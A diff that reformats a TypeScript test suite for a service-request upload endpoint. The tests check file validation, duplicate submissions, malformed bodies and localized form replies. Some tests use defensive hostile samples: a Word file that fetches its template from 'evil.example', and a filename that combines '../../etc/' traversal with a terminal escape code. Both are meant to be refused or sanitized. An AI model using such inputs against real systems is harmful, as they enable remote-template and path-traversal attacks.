@@ -9,9 +9,19 @@ import { startApp } from "./start-app.ts";
 const brief: FormFile = { name: "brief.pdf", bytes: sampleFile("pdf") };
 type App = Awaited<ReturnType<typeof startApp>>["app"];
 
-async function send(app: App, fields: Readonly<Record<string, string>>, file?: FormFile, headers: Record<string, string> = {}) {
+async function send(
+  app: App,
+  fields: Readonly<Record<string, string>>,
+  file?: FormFile,
+  headers: Record<string, string> = {},
+) {
   const body = await multipart(fields, file);
-  return app.inject({ method: "POST", url: "/api/service-requests", payload: body.payload, headers: { ...body.headers, ...headers } });
+  return app.inject({
+    method: "POST",
+    url: "/api/service-requests",
+    payload: body.payload,
+    headers: { ...body.headers, ...headers },
+  });
 }
 
 test("Q-01 Q-18 Q-32 a request without a file is stored exactly as it was typed", async () => {
@@ -19,13 +29,23 @@ test("Q-01 Q-18 Q-32 a request without a file is stored exactly as it was typed"
   const answer = await send(app, { ...goodRequest, locale: "en", today: "2026-11-21" });
   expect(answer.statusCode).toBe(201);
   expect(await stored()).toEqual([
-    { ...goodRequest, id: answer.json().id, kind: "service-request", state: "new", locale: "en", receivedAt: "2026-11-21T12:00:00.000Z", attachment: undefined },
+    {
+      ...goodRequest,
+      id: answer.json().id,
+      kind: "service-request",
+      state: "new",
+      locale: "en",
+      receivedAt: "2026-11-21T12:00:00.000Z",
+      attachment: undefined,
+    },
   ]);
 });
 
 test("Q-18 a file chooser that was left empty is no attachment", async () => {
   const { app, stored, keptFiles } = await startApp();
-  expect((await send(app, goodRequest, { name: "", bytes: new Uint8Array() })).statusCode).toBe(201);
+  expect((await send(app, goodRequest, { name: "", bytes: new Uint8Array() })).statusCode).toBe(
+    201,
+  );
   expect(await stored()).toMatchObject([{ attachment: undefined }]);
   expect(await keptFiles()).toEqual([]);
 });
@@ -42,7 +62,14 @@ test.each([
   const bytes = sampleFile(type);
   expect((await send(app, goodRequest, { name, bytes })).statusCode).toBe(201);
   const [lead] = await stored();
-  expect(lead).toMatchObject({ attachment: { name, type, sizeBytes: bytes.length, sha256: createHash("sha256").update(bytes).digest("hex") } });
+  expect(lead).toMatchObject({
+    attachment: {
+      name,
+      type,
+      sizeBytes: bytes.length,
+      sha256: createHash("sha256").update(bytes).digest("hex"),
+    },
+  });
   const [file] = await keptFiles();
   expect(file).toMatch(new RegExp(`^[0-9a-f-]{36}\\.${type}$`));
   expect(await readFile(join(dataDir, "attachments", file!))).toEqual(Buffer.from(bytes));
@@ -65,20 +92,31 @@ test.each([
   ["Q-25", "brief.pdf", program, "wrong-type"],
   ["Q-25", "empty.pdf", new Uint8Array(), "wrong-type"],
   ["Q-25", "", program, "wrong-type"],
-])("%s Q-30 the server refuses the file «%s» and keeps nothing of it", async (_id, name, bytes, code) => {
-  const { app, stored, keptFiles } = await startApp();
-  const answer = await send(app, goodRequest, { name, bytes });
-  expect(answer.statusCode).toBe(400);
-  expect(answer.json()).toEqual({ code: "invalid-input", fields: { attachment: code } });
-  expect(await stored()).toEqual([]);
-  expect(await keptFiles()).toEqual([]);
-});
+])(
+  "%s Q-30 the server refuses the file «%s» and keeps nothing of it",
+  async (_id, name, bytes, code) => {
+    const { app, stored, keptFiles } = await startApp();
+    const answer = await send(app, goodRequest, { name, bytes });
+    expect(answer.statusCode).toBe(400);
+    expect(answer.json()).toEqual({ code: "invalid-input", fields: { attachment: code } });
+    expect(await stored()).toEqual([]);
+    expect(await keptFiles()).toEqual([]);
+  },
+);
 
 test("Q-25 a Word document that fetches its template from another machine is refused and not kept", async () => {
   const { app, keptFiles } = await startApp();
-  const text = '<Relationships><Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>';
-  const bytes = zip([{ name: "[Content_Types].xml" }, { name: "word/document.xml" }, { name: "word/_rels/settings.xml.rels", text }]);
-  expect((await send(app, goodRequest, { name: "brief.docx", bytes })).json()).toEqual({ code: "invalid-input", fields: { attachment: "wrong-type" } });
+  const text =
+    '<Relationships><Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>';
+  const bytes = zip([
+    { name: "[Content_Types].xml" },
+    { name: "word/document.xml" },
+    { name: "word/_rels/settings.xml.rels", text },
+  ]);
+  expect((await send(app, goodRequest, { name: "brief.docx", bytes })).json()).toEqual({
+    code: "invalid-input",
+    fields: { attachment: "wrong-type" },
+  });
   expect(await keptFiles()).toEqual([]);
 });
 
@@ -130,7 +168,17 @@ test.each([
 test("Q-30 every field that breaks a rule is named at once, the file too", async () => {
   const { app } = await startApp();
   const answer = await send(app, {}, { name: "brief.pdf", bytes: program });
-  const form = ["serviceType", "projectDescription", "budget", "projectSize", "deadline", "managementSystem", "name", "email", "phone"];
+  const form = [
+    "serviceType",
+    "projectDescription",
+    "budget",
+    "projectSize",
+    "deadline",
+    "managementSystem",
+    "name",
+    "email",
+    "phone",
+  ];
   expect(Object.keys(answer.json().fields)).toEqual([...form, "attachment"]);
 });
 
@@ -141,7 +189,11 @@ test("Q-43 a double click stores one request with one file", async () => {
   expect(answers.map((answer) => answer.statusCode).sort()).toEqual([200, 201]);
   expect(new Set(answers.map((answer) => answer.json().id)).size).toBe(1);
   expect(await stored()).toHaveLength(1);
-  expect(await keptFiles()).toEqual([(await stored()).map((lead) => (lead.kind === "service-request" ? lead.attachment?.file : undefined))[0]]);
+  expect(await keptFiles()).toEqual([
+    (await stored()).map((lead) =>
+      lead.kind === "service-request" ? lead.attachment?.file : undefined,
+    )[0],
+  ]);
 });
 
 test("Q-44 a retry after a lost answer stores nothing new, on disk neither", async () => {
@@ -159,7 +211,9 @@ test("Q-44 the same words with another file are another request", async () => {
   const { app, stored, keptFiles } = await startApp();
   const fields = { ...goodRequest, key: randomUUID() };
   await send(app, fields, brief);
-  expect((await send(app, fields, { name: "brief.png", bytes: sampleFile("png") })).statusCode).toBe(201);
+  expect(
+    (await send(app, fields, { name: "brief.png", bytes: sampleFile("png") })).statusCode,
+  ).toBe(201);
   expect(await stored()).toHaveLength(2);
   expect(await keptFiles()).toHaveLength(2);
 });
@@ -167,23 +221,37 @@ test("Q-44 the same words with another file are another request", async () => {
 test.each([
   ["ar", "شكرًا لك!"],
   ["en", "Thank You!"],
-])("Q-45 a plain form in %s, file included, is stored and answered with a page in its language", async (locale, thanks) => {
-  const { app, stored } = await startApp();
-  const answer = await send(app, { ...goodRequest, locale }, brief, { accept: plainFormAccept });
-  expect(answer.statusCode).toBe(200);
-  expect(answer.headers["content-type"]).toBe("text/html; charset=utf-8");
-  expect(answer.body).toContain(thanks);
-  expect(await stored()).toMatchObject([{ projectDescription: goodRequest.projectDescription, attachment: { name: "brief.pdf" } }]);
-});
+])(
+  "Q-45 a plain form in %s, file included, is stored and answered with a page in its language",
+  async (locale, thanks) => {
+    const { app, stored } = await startApp();
+    const answer = await send(app, { ...goodRequest, locale }, brief, { accept: plainFormAccept });
+    expect(answer.statusCode).toBe(200);
+    expect(answer.headers["content-type"]).toBe("text/html; charset=utf-8");
+    expect(answer.body).toContain(thanks);
+    expect(await stored()).toMatchObject([
+      { projectDescription: goodRequest.projectDescription, attachment: { name: "brief.pdf" } },
+    ]);
+  },
+);
 
 test("Q-29 Q-45 an invalid plain form comes back with every choice made, every text kept and words about the file", async () => {
   const { app } = await startApp();
-  const answer = await send(app, { ...goodRequest, serviceType: "web-design", email: "a@", locale: "en" }, { name: "brief.pdf", bytes: program }, { accept: plainFormAccept });
+  const answer = await send(
+    app,
+    { ...goodRequest, serviceType: "web-design", email: "a@", locale: "en" },
+    { name: "brief.pdf", bytes: program },
+    { accept: plainFormAccept },
+  );
   expect(answer.statusCode).toBe(400);
   expect(answer.body).toContain('<option data-choice="serviceType" value="web-design" selected>');
   expect(answer.body).toContain('<option value="seo" data-choice="serviceType">');
-  expect(answer.body).toContain('<input type="radio" name="budget" value="500-1000" data-choice="budget" checked/>');
-  expect(answer.body).toContain('<input type="radio" name="budget" value="more-than-1000" data-choice="budget"/>');
+  expect(answer.body).toContain(
+    '<input type="radio" name="budget" value="500-1000" data-choice="budget" checked/>',
+  );
+  expect(answer.body).toContain(
+    '<input type="radio" name="budget" value="more-than-1000" data-choice="budget"/>',
+  );
   expect(answer.body).toContain('value="2026-12-31"');
   expect(answer.body).toContain('<p id="attachment-error">We cannot take this file.');
   expect(answer.body).not.toContain("choose your file again");
@@ -191,7 +259,9 @@ test("Q-29 Q-45 an invalid plain form comes back with every choice made, every t
 
 test("Q-45 a good file that came with a bad form has to be chosen again, and the page says so", async () => {
   const { app, keptFiles } = await startApp();
-  const answer = await send(app, { ...goodRequest, email: "a@", locale: "en" }, brief, { accept: plainFormAccept });
+  const answer = await send(app, { ...goodRequest, email: "a@", locale: "en" }, brief, {
+    accept: plainFormAccept,
+  });
   expect(answer.body).toContain("Please choose your file again too");
   expect(await keptFiles()).toEqual([]);
 });
@@ -200,15 +270,26 @@ test.each([
   ["cut short", (body: Buffer) => body.subarray(0, body.length - 40)],
   ["cut in its first header", (body: Buffer) => body.subarray(0, 60)],
   ["no form at all", () => Buffer.from("what is this?")],
-])("Q-30 a body that is %s is refused as malformed and leaves nothing behind", async (_what, spoil) => {
-  const { app, stored, keptFiles } = await startApp();
-  const body = await multipart(goodRequest, { name: "brief.pdf", bytes: paddedTo(300_000, sampleFile("pdf")) });
-  const answer = await app.inject({ method: "POST", url: "/api/service-requests", payload: spoil(body.payload), headers: body.headers });
-  expect(answer.statusCode).toBe(400);
-  expect(answer.json()).toEqual({ code: "invalid-input" });
-  expect(await stored()).toEqual([]);
-  expect(await keptFiles()).toEqual([]);
-});
+])(
+  "Q-30 a body that is %s is refused as malformed and leaves nothing behind",
+  async (_what, spoil) => {
+    const { app, stored, keptFiles } = await startApp();
+    const body = await multipart(goodRequest, {
+      name: "brief.pdf",
+      bytes: paddedTo(300_000, sampleFile("pdf")),
+    });
+    const answer = await app.inject({
+      method: "POST",
+      url: "/api/service-requests",
+      payload: spoil(body.payload),
+      headers: body.headers,
+    });
+    expect(answer.statusCode).toBe(400);
+    expect(answer.json()).toEqual({ code: "invalid-input" });
+    expect(await stored()).toEqual([]);
+    expect(await keptFiles()).toEqual([]);
+  },
+);
 
 test.each([
   ["no boundary", "multipart/form-data", 400],
@@ -216,7 +297,12 @@ test.each([
   ["a form without room for files", "application/x-www-form-urlencoded", 415],
 ])("Q-30 %s is refused", async (_what, type, status) => {
   const { app } = await startApp();
-  const answer = await app.inject({ method: "POST", url: "/api/service-requests", payload: "{}", headers: { "content-type": type } });
+  const answer = await app.inject({
+    method: "POST",
+    url: "/api/service-requests",
+    payload: "{}",
+    headers: { "content-type": type },
+  });
   expect(answer.statusCode).toBe(status);
   expect(answer.json()).toEqual({ code: "invalid-input" });
 });
@@ -226,7 +312,8 @@ test("Q-30 a second file, or a hundred fields, are more than the form has", asyn
   const many = Object.fromEntries(Array.from({ length: 100 }, (_, i) => [`extra${i}`, "x"]));
   expect((await send(app, { ...goodRequest, ...many }, brief)).statusCode).toBe(400);
   const form = new FormData();
-  for (const name of ["a.pdf", "b.pdf"]) form.append("attachment", new Blob([sampleFile("pdf")]), name);
+  for (const name of ["a.pdf", "b.pdf"])
+    form.append("attachment", new Blob([sampleFile("pdf")]), name);
   const twoFiles = new Request("http://form.example/", { method: "POST", body: form });
   const answer = await app.inject({
     method: "POST",
@@ -271,7 +358,10 @@ test("Q-30 a file in any other field is not kept", async () => {
 
 test("Q-46 the name of a file is kept as text, without what could mislead a terminal, and never used as a path", async () => {
   const { app, stored, keptFiles } = await startApp();
-  await send(app, goodRequest, { name: `../../etc/${"ط".repeat(300)}\u001b[31m.pdf`, bytes: brief.bytes });
+  await send(app, goodRequest, {
+    name: `../../etc/${"ط".repeat(300)}\u001b[31m.pdf`,
+    bytes: brief.bytes,
+  });
   const [lead] = await stored();
   const name = lead?.kind === "service-request" ? lead.attachment?.name : undefined;
   expect(name).toMatch(/^ط+\.pdf$/);
